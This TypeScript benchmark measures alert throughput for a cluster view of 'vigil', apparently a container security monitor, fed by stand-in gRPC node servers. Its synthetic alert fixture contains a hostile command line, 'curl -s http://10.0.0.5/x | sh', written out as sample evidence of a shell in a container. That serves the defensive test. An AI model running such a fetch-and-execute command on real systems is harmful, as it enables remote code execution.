/**
 * Alerts per second a cluster view (a real `vigil cluster` process) takes
 * in from N node control planes: each node is a stand-in alert server in
 * this process (Status + AlertService.Subscribe over real gRPC on
 * loopback, with a bearer token) holding a backlog of M alerts of a shell
 * in a container with its event and ancestry as evidence (≈ 1.5 KiB of
 * JSON each). The clock runs from the moment the view listens (its store
 * open, its node streams starting) until a subscriber of the view's own
 * alert stream has every one of the N×M: each alert read
 * from a node, stored in the view's SQLite store (one transaction per
 * batch), and published again. The stand-ins cost little next to the view,
 * but share the machine with it.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as grpc from '@grpc/grpc-js';
import type { Alert__Output } from '../../proto/generated/vigil/v1/Alert';
import { loadVigilProtos } from '../../proto/loader';
import { CONTAINER_ID, execEvent } from '../helpers/synthetic-events';
import { subscribeAlerts } from '../helpers/grpc-clients';
import { tempDir } from '../helpers/temp-dir';
import { startVigil } from '../helpers/vigil-cli';
import { round } from './stats';
import { memoryKiB } from './proc-stats';

function sampleAlert(node: string, id: number): Alert__Output {
  const pid = 10_000 + id;
  const ancestor = (p: number, exe: string) => ({ pid: p, comm: path.basename(exe), exe, argv: [exe], start_boot_ns: '1', uid: 0 });
  const event = execEvent({ pid, ppid: pid - 1, filename: '/bin/sh', argv: ['sh', '-c', `id; curl -s http://10.0.0.5/x | sh # ${id}`], containerId: CONTAINER_ID });
  event.ancestry = [ancestor(pid - 1, '/usr/bin/containerd-shim-runc-v2'), ancestor(pid - 2, '/usr/bin/containerd'), ancestor(1, '/sbin/init')] as typeof event.ancestry;
  return {
    id: String(id), rule_id: 'shell-in-container', rule_version: 1, title: 'Shell in a container', severity: 'SEVERITY_MEDIUM',
    mitre: { id: 'T1059.004', name: 'Command and Scripting Interpreter: Unix Shell', tactic: 'Execution' },
    description: 'A shell started in a container: an exec into it, or a process that spawned one.',
    summary: `shell /bin/sh started in container c0ffee000000 by the container runtime (exec into the container): sh -c id # ${id}`,
    node_name: node, container_id: CONTAINER_ID, namespace: 'shop', pod: 'web-7d9f', pod_uid: 'uid-1', pid,
    first_seen_unix_nano: event.time_unix_nano, last_seen_unix_nano: event.time_unix_nano, count: 1,
    evidence: { event, ancestry: [], container: null, fields: { tty: 'false' }, audit: null }, audit_ids: [], origin: null,
  };
}

/** A node control plane as the cluster view sees one: who it is, and its alerts after a cursor. */
async function standInNode(node: string, alerts: Alert__Output[]): Promise<{ address: string; close(): void }> {
  const protos = loadVigilProtos().vigil.v1;
  const server = new grpc.Server();
  server.addService(protos.QueryService.service, {
    Status: (_call: unknown, cb: grpc.sendUnaryData<unknown>) => cb(null, { store_id: `bench-${node}`, node_names: [node] }),
    ListEvents: (_c: unknown, cb: grpc.sendUnaryData<unknown>) => cb({ code: grpc.status.UNIMPLEMENTED }),
    ListAlerts: (_c: unknown, cb: grpc.sendUnaryData<unknown>) => cb({ code: grpc.status.UNIMPLEMENTED }),
  });
  server.addService(protos.AlertService.service, {
    Subscribe: (call: grpc.ServerWritableStream<{ after_id: string }, Alert__Output>) => {
      let i = Number(call.request.after_id);
      let gone = false;
      call.on('cancelled', () => (gone = true));
      const pump = () => {
        while (!gone && i < alerts.length) if (!call.write(alerts[i++])) return void call.once('drain', pump);
      };
      pump();
    },
  });
  const port = await new Promise<number>((resolve, reject) => server.bindAsync('127.0.0.1:0', grpc.ServerCredentials.createInsecure(), (e, p) => (e ? reject(e) : resolve(p))));
  return { address: `127.0.0.1:${port}`, close: () => server.forceShutdown() };
}

export async function benchClusterFanIn(nodeCount: number, alertsPerNode: number) {
  const nodes = await Promise.all(
    Array.from({ length: nodeCount }, (_, n) => standInNode(`node-${n}`, Array.from({ length: alertsPerNode }, (_, i) => sampleAlert(`node-${n}`, i + 1)))),
  );
  const dir = tempDir('vigil-bench-cluster-');
  const tokenFile = path.join(dir, 'reader.token');
  fs.writeFileSync(tokenFile, 'bench-reader-token-0123456789abcdef\n');
  const dataDir = path.join(dir, 'view');
  const view = startVigil(['cluster', '--data-dir', dataDir, '--nodes', nodes.map((n) => n.address).join(','), '--node-token-file', tokenFile]);
  try {
    await view.waitFor(/listening on/, 30_000);
    const started = Date.now();
    const sub = subscribeAlerts(`unix://${path.join(dataDir, 'vigil.sock')}`, fs.readFileSync(path.join(dataDir, 'token'), 'utf8').trim(), { after_id: '0' });
    const total = nodeCount * alertsPerNode;
    await sub.waitFor(total, 600_000);
    const seconds = (Date.now() - started) / 1000;
    sub.close();
    const rssKiB = memoryKiB(view.child.pid!, 'VmHWM') ?? 0;
    return {
      measures: 'alerts/s a vigil cluster process reads from N node alert streams, stores once per origin and re-publishes, until a subscriber of the view has all, from the moment the view listens',
      nodes: nodeCount,
      alerts_per_node: alertsPerNode,
      alerts: total,
      seconds: round(seconds, 2),
      alerts_per_sec: round(total / seconds, 0),
      view_peak_rss_mib: round(rssKiB / 1024, 0),
    };
  } finally {
    view.child.kill('SIGINT');
    await view.exited;
    for (const n of nodes) n.close();
    fs.rmSync(dir, { recursive: true, force: true });
  }
}
